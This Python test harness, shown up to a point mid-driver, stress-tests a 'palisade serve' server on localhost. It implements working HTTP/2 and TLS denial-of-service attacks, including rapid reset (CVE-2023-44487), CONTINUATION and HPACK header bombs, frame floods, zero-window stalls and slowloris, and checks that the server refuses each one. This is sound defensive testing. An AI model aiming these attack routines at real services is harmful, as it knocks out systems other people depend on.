#!/usr/bin/env python3
"""HTTP/2 and TLS abuse against a real `palisade serve` process (issue 15), with a well-behaved caller measured
throughout.

The driver starts the server (`--bin`, `--config`; the ports are read from its log), starts a well-behaved caller
in its own process (grpcio over mTLS, unary ServerLive every 10 ms, latencies streamed back), measures a baseline
window, then runs each attack for `--duration` seconds. Attackers speak raw HTTP/2 frames (hyperframe, hpack) over
TLS with a valid client certificate, or raw TCP where the attack needs no credentials, and reconnect when closed,
so that each attack lasts its whole window. For each attack it records:

  p99       the caller's p99 latency during the attack, against its baseline p99
  rss       the server's peak VmRSS (/proc/PID/status) during the attack, against the baseline
  closed    whether the server closed the abusive connections (and how long the first one took)
  goaway    the GOAWAY error code the attacker received (11 = ENHANCE_YOUR_CALM, 0 = NO_ERROR)
  metric    the increase of the counter that should count it (palisade_transport_refusals_total{reason} or
            palisade_admin_refusals_total{reason}), read from the admin port's /metrics

Prints one `RESULT <attack> <json>` line per attack, `RESULT baseline <json>`, and a table.

`burst` mode (no driver, no caller): against a running server (`--port`), sends `--burst N` ServerLive calls in one
write on one connection, reads until the server closes it, and prints `BURST <json>`: the grpc-status of each
answered stream, streams reset, the GOAWAY code. A test of the unauthorized-call budget's refusals within one read.

  rapid_reset    HEADERS + RST_STREAM(CANCEL) in a loop (CVE-2023-44487)
  continuation   HEADERS without END_HEADERS, then CONTINUATION frames that never end the block
  hpack_bomb     a 4 KiB header put in the HPACK dynamic table, then header blocks of 60 one-byte references to
                 it (~240 KiB decoded, just under the decoder's bound, from ~160 bytes)
  trailer_bomb   the same blocks as request trailers, after an empty message
  settings_flood SETTINGS frames in a loop
  ping_flood     PING frames in a loop, acks never read
  streams        HEADERS for MAX_CONCURRENT_STREAMS + 300 streams, never finished
  zero_window    SETTINGS_INITIAL_WINDOW_SIZE = 0 and never a WINDOW_UPDATE, while asking for responses
  live_flood     ServerLive calls (token-exempt, so served) as fast as the answers come back, reading them, and
                 reconnecting at once when closed
  bad_token_flood the same with ModelInfer and a bearer token that is not a JWT (refused UNAUTHENTICATED)
  tcp_full       HTTP/2 windows opened wide, a 4 KiB socket receive buffer, requests sent and the socket never
                 read: the TCP buffers fill and the server's writes stop (no GOAWAY can arrive through a full pipe).
                 Its answers are small (ServerLive, token-exempt by default, so served), so it takes seconds of
                 requests to fill the server's socket buffer: not in the short run of `make test`
                 (ConnectionManagerTests covers the guard there)
  idle           1,000 TLS connections (valid certificate) that say nothing after the preface
  slow_handshake TCP connections dribbling a TLS ClientHello one byte at a time (no credentials)
  slowloris_grpc TLS connections (valid certificate) dribbling the HTTP/2 preface and a HEADERS frame
  slowloris_admin HTTP/1.1 requests to the admin port dribbled one byte at a time (no credentials)
  admin_flood    16 keep-alive connections to the admin port asking for /metrics as fast as the answers come back
                 (no credentials): the cost of rendering, not of holding connections
  admin_unread   HTTP/1.1 requests to the admin port pipelined from a 4 KiB receive buffer and never read (no
                 credentials): the answers fill the socket, and the connection would hold its admin slot for ever
"""
import argparse
import json
import os
import re
import resource
import select
import socket
import ssl
import statistics
import subprocess
import sys
import threading
import time
import urllib.request

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LIVE = "/inference.GRPCInferenceService/ServerLive"
INFER = "/inference.GRPCInferenceService/ModelInfer"
ATTACKS = ["rapid_reset", "continuation", "hpack_bomb", "trailer_bomb", "settings_flood", "ping_flood", "streams",
           "zero_window", "tcp_full", "live_flood", "bad_token_flood", "idle", "slow_handshake", "slowloris_grpc", "slowloris_admin",
           "admin_unread", "admin_flood"]
# The counter (and label) each attack must raise; any one of several reasons counts.
EXPECTED = {
    "rapid_reset": ("transport", ["rapid_reset"]),
    "continuation": ("transport", ["continuation_flood"]),
    "hpack_bomb": ("transport", ["header_list_abuse"]),
    "trailer_bomb": ("transport", ["header_list_abuse"]),
    "settings_flood": ("transport", ["control_frame_flood"]),
    "ping_flood": ("transport", ["control_frame_flood", "outbound_control_frames"]),
    "streams": ("transport", ["max_concurrent_streams", "stream_errors", "glitches"]),
    "zero_window": ("transport", ["write_stalled", "outbound_buffer"]),
    "tcp_full": ("transport", ["write_stalled", "outbound_buffer", "max_concurrent_streams", "unauthorized_call_flood"]),
    "live_flood": ("transport", ["unauthorized_call_flood"]),
    "bad_token_flood": ("transport", ["unauthorized_call_flood"]),
    "idle": ("transport", ["max_connections_per_address"]),
    "slow_handshake": ("transport", ["handshake_timeout"]),
    "slowloris_grpc": ("transport", ["keepalive_timeout", "idle_timeout"]),
    "slowloris_admin": ("admin", ["request_timeout"]),
    "admin_unread": ("admin", ["write_stalled"]),
    "admin_flood": ("admin", ["metrics_cached"]),
}
# Attacks on HTTP/2 must end with GOAWAY(ENHANCE_YOUR_CALM).
EXPECT_CALM = {"rapid_reset", "continuation", "hpack_bomb", "trailer_bomb", "settings_flood", "ping_flood",
               "streams", "zero_window", "live_flood", "bad_token_flood"}


# MARK: The server process

def pinned(cmd, cpus):
    """`cmd` run on the CPUs listed in `cpus` ("0", "0-1"), or as is when none are given."""
    return ["taskset", "-c", cpus] + cmd if cpus else cmd


class Server:
    def __init__(self, binary, config, log_path, cpus=None):
        self.log = open(log_path, "w+")
        self.proc = subprocess.Popen(pinned([binary, "serve", "--config", config], cpus), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.PIPE, text=True)
        self.port = self.admin = None
        self.lines = []
        threading.Thread(target=self._pump, daemon=True).start()
        deadline = time.time() + 60
        while time.time() < deadline and (self.port is None or self.admin is None):
            if self.proc.poll() is not None:
                raise SystemExit("server exited: " + "".join(self.lines[-20:]))
            time.sleep(0.05)
        if self.port is None or self.admin is None:
            raise SystemExit("server did not report its ports: " + "".join(self.lines[-20:]))

    def _pump(self):
        for line in self.proc.stderr:
            self.log.write(line)
            self.log.flush()
            self.lines.append(line)
            if len(self.lines) > 200:
                del self.lines[:100]
            for marker, attr in (("palisade serving", "port"), ("admin endpoint listening", "admin")):
                if marker in line and getattr(self, attr) is None:
                    port = listen_port(line)
                    if port:
                        setattr(self, attr, port)

    @property
    def pid(self):
        return self.proc.pid

    def rss(self):
        try:
            with open(f"/proc/{self.pid}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        return int(line.split()[1]) * 1024
        except OSError:
            pass
        return 0

    def fds(self):
        try:
            return len(os.listdir(f"/proc/{self.pid}/fd"))
        except OSError:
            return 0

    def stop(self):
        self.proc.terminate()
        try:
            self.proc.wait(30)
        except subprocess.TimeoutExpired:
            self.proc.kill()


def listen_port(line):
    try:
        obj = json.loads(line)
        listen = obj.get("listen") or (obj.get("metadata") or {}).get("listen")
        if listen:
            return int(str(listen).rsplit(":", 1)[1])
    except (ValueError, IndexError, AttributeError):
        pass
    m = re.search(r"listen=\S*:(\d+)", line)
    return int(m.group(1)) if m else None


def metrics(admin_port):
    """Counters by (family, reason)."""
    out = {}
    for attempt in range(5):
        try:
            body = urllib.request.urlopen(f"http://127.0.0.1:{admin_port}/metrics", timeout=5).read().decode()
            break
        except OSError:
            time.sleep(0.3)
    else:
        return out
    for line in body.splitlines():
        m = re.match(r'palisade_(transport|admin)_refusals_total\{reason="([^"]+)"\}\s+([0-9.e+]+)', line)
        if m:
            out[(m.group(1), m.group(2))] = float(m.group(3))
        m = re.match(r'palisade_admin_metrics_cached_total\s+([0-9.e+]+)', line)
        if m:
            out[("admin", "metrics_cached")] = float(m.group(1))
    return out


class RSSSampler:
    def __init__(self, server):
        self.server = server
        self.peak = 0
        self.lock = threading.Lock()
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while True:
            rss = self.server.rss()
            with self.lock:
                self.peak = max(self.peak, rss)
            time.sleep(0.05)

    def reset(self):
        with self.lock:
            peak, self.peak = self.peak, self.server.rss()
        return peak


# MARK: The well-behaved caller (its own process, so that the attacker's CPU use in this one does not skew it)

def caller_main(args):
    import grpc
    with open(args.ca, "rb") as f:
        ca = f.read()
    with open(args.cert, "rb") as f:
        cert = f.read()
    with open(args.key, "rb") as f:
        key = f.read()
    creds = grpc.ssl_channel_credentials(root_certificates=ca, private_key=key, certificate_chain=cert)
    channel = grpc.secure_channel(f"127.0.0.1:{args.port}", creds,
                                  options=[("grpc.ssl_target_name_override", "localhost")])
    live = channel.unary_unary(LIVE, request_serializer=lambda b: b, response_deserializer=lambda b: b)
    out = sys.stdout
    while True:
        start = time.time()
        code = 0
        try:
            live(b"", timeout=10)
        except grpc.RpcError as e:
            code = e.code().value[0]
        end = time.time()
        out.write(f"{start:.6f} {(end - start) * 1000:.3f} {code}\n")
        out.flush()
        time.sleep(max(0.0, 0.01 - (end - start)))


class Caller:
    def __init__(self, args, port):
        cmd = [sys.executable, os.path.abspath(__file__), "caller", "--port", str(port), "--cert", args.cert,
               "--key", args.key, "--ca", args.ca]
        self.proc = subprocess.Popen(pinned(cmd, args.server_cpus), stdout=subprocess.PIPE, text=True)
        self.samples = []
        self.lock = threading.Lock()
        threading.Thread(target=self._pump, daemon=True).start()

    def _pump(self):
        for line in self.proc.stdout:
            try:
                t, ms, code = line.split()
                with self.lock:
                    self.samples.append((float(t), float(ms), int(code)))
            except ValueError:
                pass

    def window(self, start, end):
        with self.lock:
            return [(ms, code) for t, ms, code in self.samples if start <= t < end]

    def stop(self):
        self.proc.kill()


def summary(calls):
    ok = sorted(ms for ms, code in calls if code == 0)
    failed = sum(1 for _, code in calls if code != 0)
    if not ok:
        return {"calls": len(calls), "failed": failed, "p50_ms": None, "p99_ms": None}
    p99 = ok[min(len(ok) - 1, int(round(0.99 * (len(ok) - 1))))]
    return {"calls": len(calls), "failed": failed, "p50_ms": round(statistics.median(ok), 2), "p99_ms": round(p99, 2)}


# MARK: Raw HTTP/2 over TLS

def tls_context(args, with_cert=True):
    ctx = ssl.create_default_context(cafile=args.ca)
    if with_cert:
        # The attackers speak as their own principal when given one, as a misbehaving workload would; the
        # caller always uses --cert.
        ctx.load_cert_chain(args.attacker_cert or args.cert, args.attacker_key or args.key)
    ctx.set_alpn_protocols(["h2"])
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    return ctx


class Raw:
    """An HTTP/2 connection spoken frame by frame; reads are polled between writes (one thread per socket)."""

    def __init__(self, args, port, settings=None, ctx=None, preface=True, wait_settings=True, rcvbuf=None):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            # Before connect, so that the window the kernel announces is small from the start.
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(10)
        sock.connect(("127.0.0.1", port))
        self.tls = (ctx or tls_context(args)).wrap_socket(sock, server_hostname="localhost")
        self.buffer = b""
        self.goaway = None
        self.goaway_codes = []
        self.closed = False
        self.opened = time.time()
        self.closed_at = None
        self.next_stream = 1
        self.encoder = hpack.Encoder()
        self.settings_acked = False
        self.answered = 0  # streams the server ended (trailers or RST_STREAM)
        self.statuses = None  # a dict to count each answer's grpc-status in (burst mode); None: not decoded
        self.decoder = hpack.Decoder()
        self.resets = 0
        self.answer_pings = False  # as a well-behaved client does; most attackers here do not
        if preface:
            s = SettingsFrame(0)
            for k, v in (settings or {}).items():
                s.settings[k] = v
            self.send(PREFACE + s.serialize())
            # Acknowledge the server's SETTINGS, as clients do: until then it keeps HTTP/2's initial limits.
            deadline = time.time() + (2 if wait_settings else 0)
            while not self.settings_acked and not self.closed and time.time() < deadline:
                self.poll(0.1)

    def send(self, data):
        if self.closed:
            return False
        try:
            self.tls.settimeout(2)
            self.tls.sendall(data)
            return True
        except socket.timeout:
            # The server stopped reading (it does once it has decided to close): see what it said.
            self.poll(0.2)
            return not self.closed
        except (OSError, ssl.SSLError):
            self.poll(0.2)
            self._close()
            return False

    def _close(self):
        if not self.closed:
            self.closed = True
            self.closed_at = time.time()

    def poll(self, timeout=0.0):
        """Reads what has arrived (waiting up to `timeout`); records GOAWAY and the connection's end."""
        if self.closed:
            return
        deadline = time.time() + timeout
        while True:
            wait = max(0.0, deadline - time.time())
            if not self.tls.pending():
                r, _, _ = select.select([self.tls], [], [], wait)
                if not r:
                    return
            try:
                self.tls.settimeout(0.5)
                data = self.tls.recv(1 << 16)
            except (socket.timeout, ssl.SSLWantReadError):
                return
            except (OSError, ssl.SSLError):
                self._close()
                return
            if not data:
                self._close()
                return
            self.buffer += data
            self._frames()
            if time.time() >= deadline and not self.tls.pending():
                return

    def _frames(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            body = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if isinstance(frame, HeadersFrame) and self.statuses is not None:
                # Every block decoded, in order, to keep the HPACK table in step.
                frame.parse_body(memoryview(body))
                status = dict(self.decoder.decode(frame.data)).get("grpc-status")
                if status is not None:
                    self.statuses[status] = self.statuses.get(status, 0) + 1
            if isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(body))
                if self.goaway is None:
                    self.goaway = frame.error_code
                self.goaway_codes.append(frame.error_code)
            elif (isinstance(frame, HeadersFrame) and "END_STREAM" in frame.flags) or isinstance(frame, RstStreamFrame):
                self.answered += 1
                if isinstance(frame, RstStreamFrame):
                    self.resets += 1
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags and self.answer_pings:
                frame.parse_body(memoryview(body))
                ack = PingFrame(0, opaque_data=frame.opaque_data)
                ack.flags.add("ACK")
                self._send_ack(ack)
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags and not self.settings_acked:
                self.settings_acked = True
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self._send_ack(ack)

    def _send_ack(self, frame):
        """An ACK sent from inside a read; a failure shows up as the connection's end on the next read."""
        try:
            self.tls.settimeout(2)
            self.tls.sendall(frame.serialize())
        except (OSError, ssl.SSLError):
            pass

    def wait_closed(self, timeout):
        deadline = time.time() + timeout
        while not self.closed and time.time() < deadline:
            self.poll(min(0.5, max(0.0, deadline - time.time())))
        return self.closed

    def headers(self, path, end_stream=False, extra=(), end_headers=True, stream=None):
        sid = stream or self.next_stream
        self.next_stream = max(self.next_stream, sid + 2)
        block = self.encoder.encode([(":method", "POST"), (":scheme", "https"),
                                     hpack.NeverIndexedHeaderTuple(":path", path),
                                     hpack.NeverIndexedHeaderTuple(":authority", "localhost"),
                                     hpack.NeverIndexedHeaderTuple("content-type", "application/grpc"),
                                     hpack.NeverIndexedHeaderTuple("te", "trailers")] + list(extra))
        f = HeadersFrame(sid)
        f.data = block
        if end_headers:
            f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return sid, f.serialize()

    def close(self):
        try:
            self.tls.close()
        except OSError:
            pass


def empty_message():
    return b"\0\0\0\0\0"


# MARK: Attacks. Each runs until `until`, reconnecting when the server closes it; returns its observations.

class Outcome:
    def __init__(self):
        self.connections = 0
        self.closed = 0
        self.goaways = {}
        self.first_close_s = None
        self.notes = {}

    def record(self, conn):
        self.connections += 1
        if conn.closed:
            self.closed += 1
            if self.first_close_s is None and conn.closed_at:
                self.first_close_s = round(conn.closed_at - conn.opened, 3)
        for code in set(getattr(conn, "goaway_codes", [])):
            self.goaways[code] = self.goaways.get(code, 0) + 1

    def record_end(self, opened, ended):
        """A plain socket opened at `opened`, closed by the server at `ended` (None: still open)."""
        self.connections += 1
        if ended is not None:
            self.closed += 1
            if self.first_close_s is None or ended - opened < self.first_close_s:
                self.first_close_s = round(ended - opened, 3)

    def result(self):
        # `goaway`: ENHANCE_YOUR_CALM if any connection got it, else the most common code; `goaways`: connections
        # that received each code.
        common = max(self.goaways, key=self.goaways.get) if self.goaways else None
        return {"connections": self.connections, "closed_connections": self.closed,
                "goaway": 11 if 11 in self.goaways else common,
                "goaways": {str(k): v for k, v in self.goaways.items()}, "first_close_s": self.first_close_s,
                **self.notes}


def flood(args, port, until, step, settings=None, close_wait=3.0):
    """Generic frame flood: `step(conn)` returns bytes to send; reconnects when closed."""
    out = Outcome()
    while time.time() < until:
        try:
            c = Raw(args, port, settings=settings)
        except (OSError, ssl.SSLError):
            time.sleep(0.05)
            continue
        # A connection keeps attacking until the server closes it (bounded), even past `until`: one stopped
        # half-way would not be abusive enough to be closed.
        stop = max(until, time.time()) + close_wait
        while time.time() < stop and not c.closed:
            if not c.send(step(c)):
                break
            c.poll(0)
            time.sleep(0.001)  # leave the CPU to the server and the caller (2 cores)
        c.wait_closed(close_wait)
        out.record(c)
        c.close()
    return out


def rapid_reset(args, port, until):
    def step(c):
        data = b""
        for _ in range(20):
            sid, frame = c.headers(INFER)
            data += frame + RstStreamFrame(sid, error_code=8).serialize()
        return data
    return flood(args, port, until, step)


def continuation(args, port, until):
    def step(c):
        if not hasattr(c, "open_block"):
            c.open_block, frame = c.headers(INFER, end_headers=False)
            return frame
        data = b""
        for i in range(20):
            f = ContinuationFrame(c.open_block)
            f.data = c.encoder.encode([hpack.NeverIndexedHeaderTuple("x-c", "a" * 8)])
            data += f.serialize()
        return data
    return flood(args, port, until, step)


def hpack_bomb(args, port, until):
    bomb = ("x-bomb", "a" * 4000)  # 4,038 bytes in the table: fits the default 4,096-byte dynamic table

    def step(c):
        # The first block puts it in the dynamic table; later ones refer to it with one byte per header.
        _, frame = c.headers(LIVE, end_stream=True, extra=[bomb] * args.bomb_refs)
        return frame
    return flood(args, port, until, step)


def trailer_bomb(args, port, until):
    bomb = ("x-bomb", "a" * 4000)

    def step(c):
        # The same bomb as request trailers, after an empty message: once decoded in full and ignored unchecked.
        sid, frame = c.headers(LIVE, end_stream=False)
        d = DataFrame(sid)
        d.data = empty_message()
        t = HeadersFrame(sid)
        t.data = c.encoder.encode([bomb] * args.bomb_refs)
        t.flags.add("END_HEADERS")
        t.flags.add("END_STREAM")
        return frame + d.serialize() + t.serialize()
    return flood(args, port, until, step)


def settings_flood(args, port, until):
    def step(c):
        data = b""
        for _ in range(20):
            f = SettingsFrame(0)
            f.settings[SettingsFrame.MAX_CONCURRENT_STREAMS] = 100
            data += f.serialize()
        return data
    return flood(args, port, until, step)


def ping_flood(args, port, until):
    def step(c):
        return b"".join(PingFrame(0, opaque_data=os.urandom(8)).serialize() for _ in range(20))
    return flood(args, port, until, step)


def streams(args, port, until):
    def step(c):
        # Streams that stay open (a unary call whose message never comes), far past MAX_CONCURRENT_STREAMS.
        if c.next_stream > 2 * (128 + 400):
            return b""
        return b"".join(c.headers(INFER)[1] for _ in range(20))
    return flood(args, port, until, step)


def call_flood(args, port, until, path, extra=()):
    """Unary calls as fast as their answers come back, reading every answer and reconnecting at once when closed:
    the flood of calls that cost the server a call each and do no authorized work. At most 64 in flight, so that
    MAX_CONCURRENT_STREAMS is never what stops it, and the server's keepalive PINGs answered, so that a slow
    server's keepalive timeout is not what stops it either."""
    out = Outcome()
    sent = 0
    while time.time() < until:
        try:
            c = Raw(args, port)
        except (OSError, ssl.SSLError):
            time.sleep(0.05)
            continue
        c.answer_pings = True
        stop = max(until, time.time()) + args.close_wait
        started = 0
        while time.time() < stop and not c.closed:
            batch = []
            while started - c.answered < 64:
                sid, frame = c.headers(path, extra=extra)
                d = DataFrame(sid)
                d.data = empty_message()
                d.flags.add("END_STREAM")
                batch.append(frame + d.serialize())
                started += 1
            if batch and not c.send(b"".join(batch)):
                break
            c.poll(0.005)
        c.wait_closed(args.close_wait)
        sent += started
        out.record(c)
        c.close()
    out.notes["requests_sent"] = sent
    return out


def burst_main(args):
    """`--burst` ServerLive calls in one TLS write: the server reads them in one go, so the calls after the one that
    spends the principal's budget are read after their connection started closing."""
    c = Raw(args, args.port)
    c.statuses = {}
    frames = []
    for _ in range(args.burst):
        sid, frame = c.headers(LIVE)
        d = DataFrame(sid)
        d.data = empty_message()
        d.flags.add("END_STREAM")
        frames.append(frame + d.serialize())
    c.send(b"".join(frames))
    c.wait_closed(args.close_wait)
    print("BURST " + json.dumps({"sent": args.burst, "statuses": c.statuses, "resets": c.resets,
                                  "goaways": c.goaway_codes, "closed": c.closed}), flush=True)
    c.close()


def live_flood(args, port, until):
    # ServerLive needs no token (auth.exempt_rpcs), so each is served, and the policy's rate limits never apply.
    return call_flood(args, port, until, LIVE)


def bad_token_flood(args, port, until):
    # A bearer token that is not a JWT: each call is refused UNAUTHENTICATED after the token is parsed.
    return call_flood(args, port, until, INFER, extra=[("authorization", "Bearer not.a.token")])


def zero_window(args, port, until):
    out = Outcome()
    while time.time() < until:
        try:
            c = Raw(args, port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        except (OSError, ssl.SSLError):
            time.sleep(0.05)
            continue
        # Responses the server cannot send: every stream's window is zero, and no WINDOW_UPDATE ever comes.
        for _ in range(64):
            _, frame = c.headers(LIVE)
            sid = c.next_stream - 2
            d = DataFrame(sid)
            d.data = empty_message()
            d.flags.add("END_STREAM")
            c.send(frame + d.serialize())
        c.wait_closed(max(0.5, until - time.time()) + args.close_wait)
        out.record(c)
        c.close()
    return out


def tcp_state(conn):
    """The kernel's TCP state of the attacker's socket (1 = ESTABLISHED), read without reading any data."""
    try:
        return conn.tls.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    except OSError:
        return 0


def tcp_full(args, port, until):
    out = Outcome()
    while time.time() < until:
        try:
            c = Raw(args, port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}, rcvbuf=4096)
        except (OSError, ssl.SSLError):
            time.sleep(0.05)
            continue
        # HTTP/2 flow control never holds the server back: only TCP does, once this side stops reading.
        w = WindowUpdateFrame(0)
        w.window_increment = 2**31 - 1 - 65535
        sent = c.send(w.serialize())
        requests = 0
        stop = max(until, time.time()) + args.close_wait
        # Requests, 64 at a time, never reading the answers, until the server stops reading too (its answers
        # cannot leave) or closes. No c.poll(): that would read. The pause after each batch keeps the attacker
        # within MAX_CONCURRENT_STREAMS without seeing a single answer (the server answers in well under 20 ms), so
        # that guard does not fire: what is left to stop it is the stalled socket itself.
        while sent and time.time() < stop and tcp_state(c) == 1:
            batch = []
            for _ in range(64):
                _, frame = c.headers(LIVE)
                d = DataFrame(c.next_stream - 2)
                d.data = empty_message()
                d.flags.add("END_STREAM")
                batch.append(frame + d.serialize())
            try:
                c.tls.settimeout(0.5)
                c.tls.sendall(b"".join(batch))
                requests += 64
            except socket.timeout:
                pass  # the server has stopped reading: keep checking whether it closes
            except (OSError, ssl.SSLError):
                break
            time.sleep(0.02)
        # Closed by the server: the socket left ESTABLISHED (FIN or RST) without this side reading anything.
        while time.time() < stop and tcp_state(c) == 1:
            time.sleep(0.05)
        if tcp_state(c) != 1:
            c._close()
        out.notes["requests_sent"] = out.notes.get("requests_sent", 0) + requests
        out.record(c)
        c.close()
    return out


def idle(args, port, until):
    out = Outcome()
    ctx = tls_context(args)
    conns = []
    refused = [0]
    lock = threading.Lock()

    def opener(n):
        for _ in range(n):
            try:
                c = Raw(args, port, ctx=ctx, wait_settings=False)
                with lock:
                    conns.append(c)
            except (OSError, ssl.SSLError):
                with lock:
                    refused[0] += 1
    # Opened from 8 threads at once, so that they are all open together (handshakes are the slow part).
    threads = [threading.Thread(target=opener, args=(args.idle_connections // 8 + (1 if i < args.idle_connections % 8 else 0),))
               for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    opened_in = time.time()
    for c in conns:
        c.poll(0)
    held = sum(1 for c in conns if not c.closed)
    while time.time() < until:
        for c in conns:
            c.poll(0)
        time.sleep(0.2)
    refused = refused[0]
    # Wait (bounded) for the server to close the ones it admitted (idle timeout or unanswered keepalive).
    deadline = time.time() + args.close_wait
    while time.time() < deadline and any(not c.closed for c in conns):
        for c in conns:
            c.poll(0)
        time.sleep(0.2)
    for c in conns:
        out.record(c)
        c.close()
    out.connections += refused
    out.closed += refused
    out.notes.update({"attempted": args.idle_connections, "refused_at_handshake": refused,
                      "admitted_and_held": held, "open_all_s": round(opened_in - (until - args.duration), 2)})
    return out


def dribble(make, payload, until, count, interval, close_wait):
    """`count` connections from `make()`, each sending `payload` one byte per `interval`; records their end."""
    out = Outcome()
    conns = []
    for _ in range(count):
        try:
            conns.append([make(), 0, time.time(), None])
        except (OSError, ssl.SSLError):
            pass
    stop = max(until, time.time()) + close_wait
    while time.time() < stop and any(c[3] is None for c in conns):
        for c in conns:
            if c[3] is not None:
                continue
            sock = c[0]
            try:
                r, _, _ = select.select([sock], [], [], 0)
                if r and not sock.recv(4096):
                    c[3] = time.time()
                    continue
                if c[1] < len(payload):
                    sock.send(payload[c[1]:c[1] + 1])
                    c[1] += 1
            except (OSError, ssl.SSLError):
                c[3] = time.time()
        time.sleep(interval)
    for sock, sent, opened, ended in conns:
        out.record_end(opened, ended)
        sock.close()
    out.notes["bytes_sent_max"] = max((c[1] for c in conns), default=0)
    return out


CLIENT_HELLO_PREFIX = bytes.fromhex("160301020001") + b"\x00\x01\xfc\x03\x03" + b"\x11" * 600


def slow_handshake(args, port, until):
    def make():
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.setblocking(False)
        return s
    return dribble(make, CLIENT_HELLO_PREFIX, until, args.slow_connections, 0.25, args.close_wait)


class TLSByteSocket:
    """A completed TLS connection whose sends are single bytes (select works on the raw socket)."""

    def __init__(self, args, port):
        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.tls = tls_context(args).wrap_socket(sock, server_hostname="localhost")
        self.tls.setblocking(False)

    def fileno(self):
        return self.tls.fileno()

    def recv(self, n):
        try:
            return self.tls.recv(n)
        except ssl.SSLWantReadError:
            return b"x"

    def send(self, data):
        return self.tls.send(data)

    def close(self):
        self.tls.close()


def slowloris_grpc(args, port, until):
    enc = hpack.Encoder()
    h = HeadersFrame(1)
    h.data = enc.encode([(":method", "POST"), (":scheme", "https"), (":path", LIVE), (":authority", "localhost")])
    h.flags.add("END_HEADERS")
    payload = PREFACE + SettingsFrame(0).serialize() + h.serialize()
    return dribble(lambda: TLSByteSocket(args, port), payload, until, args.slow_connections, 0.25, args.close_wait)


def slowloris_admin(args, port, until):
    def make():
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.setblocking(False)
        return s
    payload = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\n" + b"X-a: b\r\n" * 200
    return dribble(make, payload, until, min(args.slow_connections, 16), 0.25, args.close_wait)


def admin_unread(args, port, until):
    out = Outcome()
    request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100
    conns = []
    for _ in range(min(args.slow_connections, 8)):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # before connecting: a small window from the start
        try:
            s.connect(("127.0.0.1", port))
        except OSError:
            s.close()
            continue
        s.setblocking(False)
        conns.append([s, time.time(), None])
    stop = max(until, time.time()) + args.close_wait
    while time.time() < stop and any(c[2] is None for c in conns):
        for c in conns:
            if c[2] is not None:
                continue
            # Closed by the server: the socket left ESTABLISHED without this side reading anything.
            if c[0].getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != 1:
                c[2] = time.time()
                continue
            try:
                c[0].send(request)
            except (BlockingIOError, InterruptedError):
                pass  # the server has stopped reading: its answers cannot leave
            except OSError:
                c[2] = time.time()
        time.sleep(0.05)
    for sock, opened, ended in conns:
        out.record_end(opened, ended)
        sock.close()
    return out


def admin_flood(args, port, until):
    out = Outcome()
    answered = [0]
    lock = threading.Lock()

    def hammer():
        n = 0
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            return
        buf = b""
        try:
            while time.time() < until:
                s.sendall(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n")
                while b"\r\n\r\n" not in buf:
                    chunk = s.recv(65536)
                    if not chunk:
                        raise OSError("closed")
                    buf += chunk
                head, _, buf = buf.partition(b"\r\n\r\n")
                length = int(re.search(rb"(?i)content-length: *(\d+)", head).group(1))
                while len(buf) < length:
                    chunk = s.recv(65536)
                    if not chunk:
                        raise OSError("closed")
                    buf += chunk
                buf = buf[length:]
                n += 1
        except (OSError, AttributeError):
            pass
        finally:
            s.close()
            with lock:
                answered[0] += n
                out.connections += 1
                out.closed += 1  # the attacker ends these itself: nothing is held afterwards

    threads = [threading.Thread(target=hammer, daemon=True) for _ in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    out.notes["answers"] = answered[0]
    return out


# MARK: Driver

def run(args):
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    server = Server(args.bin, args.config, args.log, args.server_cpus)
    sampler = RSSSampler(server)
    caller = Caller(args, server.port)
    results = {}
    try:
        time.sleep(args.warmup)
        sampler.reset()
        start = time.time()
        time.sleep(args.baseline)
        base_calls = caller.window(start, time.time())
        base_rss = sampler.reset()
        baseline = {**summary(base_calls), "rss_mib": round(base_rss / 2**20, 1), "fds": server.fds()}
        print("RESULT baseline " + json.dumps(baseline), flush=True)
        attacks = ATTACKS if args.attacks == "all" else args.attacks.split(",")
        for name in attacks:
            family, reasons = EXPECTED[name]
            before = metrics(server.admin)
            sampler.reset()
            start = time.time()
            port = server.admin if name.startswith("admin") or name == "slowloris_admin" else server.port
            outcome = globals()[name](args, port, start + args.duration)
            end = time.time()
            time.sleep(0.3)
            after = metrics(server.admin)
            peak = sampler.reset()
            counted = {r: after.get((family, r), 0) - before.get((family, r), 0) for r in reasons}
            # Every refusal counted during the attack, for diagnosis (other reasons may close a connection too).
